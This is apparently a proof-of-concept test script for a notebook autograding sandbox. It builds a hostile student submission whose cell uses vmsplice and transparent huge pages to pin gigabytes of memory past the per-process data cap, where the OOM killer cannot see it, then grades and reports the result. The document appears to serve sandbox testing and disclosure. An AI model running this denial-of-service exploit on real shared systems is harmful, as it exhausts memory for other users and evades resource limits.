"""a02: memory past the per-process cap (RLIMIT_DATA, the only memory cap as an ordinary user) with vmsplice.

vmsplice(2) (and splice/tee) are allowed by the sandbox's seccomp filter. vmsplice puts references to the
caller's own pages into a pipe (zero copy); the caller then unmaps them: the pages live on, held by the pipe,
in no process's VmData or VmRSS. With transparent huge pages (THP "always" on this host, or MADV_HUGEPAGE),
one 4 KiB piece of a 2 MiB huge page pins the whole 2 MiB folio: a pipe of 16 slots holds 32 MiB. A
process never holds more than 128 MiB mapped at once, yet pins GiB in pipes it keeps only the read end of
(1,280 descriptors: up to ~1,270 pipes; the first 1,024 pipes of a user get 16 slots = 32 GiB).
Only a memory cgroup (root) charges these pages; the OOM killer cannot attribute them to any process.
Here one kernel process pins PIN_GIB GiB (default 7, past the 6 GiB data cap) for a few seconds, then frees it.
"""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import u12

PIN_GIB = int(sys.argv[1]) if len(sys.argv) > 1 else 7
CELL = r'''
import ctypes, mmap, os, resource, time
def _pin(gib, hold):
    libc = ctypes.CDLL(None, use_errno=True)
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    def meminfo(k):
        return next(int(l.split()[1]) // 1024 for l in open("/proc/meminfo") if l.startswith(k + ":"))
    def status(k):
        return next(int(l.split()[1]) // 1024 for l in open("/proc/self/status") if l.startswith(k + ":"))
    MB2 = 2 << 20
    CHUNK = 64 * MB2
    avail0 = meminfo("MemAvailable")
    print("RLIMIT_DATA", resource.getrlimit(resource.RLIMIT_DATA), "RLIMIT_AS", resource.getrlimit(resource.RLIMIT_AS),
          "MemAvailable MiB", avail0, flush=True)
    pipes, pinned, err = [], 0, None
    while pinned < gib << 30:
        m = mmap.mmap(-1, CHUNK + MB2, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
        base = (addr + MB2 - 1) & ~(MB2 - 1)
        libc.madvise(ctypes.c_void_p(base), ctypes.c_size_t(CHUNK), 14)  # MADV_HUGEPAGE
        ctypes.memset(base, 1, CHUNK)
        i, n = 0, CHUNK // MB2
        while i < n:
            r, w = os.pipe()
            while i < n:
                v = iovec(base + i * MB2, 4096)
                if libc.vmsplice(w, ctypes.byref(v), 1, 2) < 0:
                    err = ctypes.get_errno()
                    break
                i += 1
                pinned += MB2
            os.close(w)
            pipes.append(r)
            if err not in (None, 11):
                raise OSError(err, os.strerror(err))
        del v
        m.close()
    print(f"pipes {len(pipes)}, pinned {pinned >> 20} MiB; this process: VmData {status('VmData')} MiB, VmRSS "
          f"{status('VmRSS')} MiB; host MemAvailable {meminfo('MemAvailable')} MiB (was {avail0}): "
          f"{avail0 - meminfo('MemAvailable')} MiB held outside any process", flush=True)
    time.sleep(hold)
    for r in pipes:
        os.close(r)
    time.sleep(1)
    print("pipes closed: MemAvailable", meminfo("MemAvailable"), flush=True)
_pin(%d, 8)
''' % PIN_GIB

hostile = u12.notebook("ps1_memory", append={"training_memory": CELL})
dest = u12.course("a02", {("mallory", "ps1_memory"): hostile, ("zoe", "ps1_memory"): u12.honest("ps1_memory")})
u12.grade(dest)
u12.report(dest)
u12.scores(dest)
import nbformat
nb = nbformat.read(f"{dest}/autograded/mallory/ps1_memory/ps1_memory.ipynb", 4)
for c in nb.cells:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "training_memory":
        for o in c.get("outputs", []):
            print("OUTPUT:", o.get("text") or o.get("evalue"))
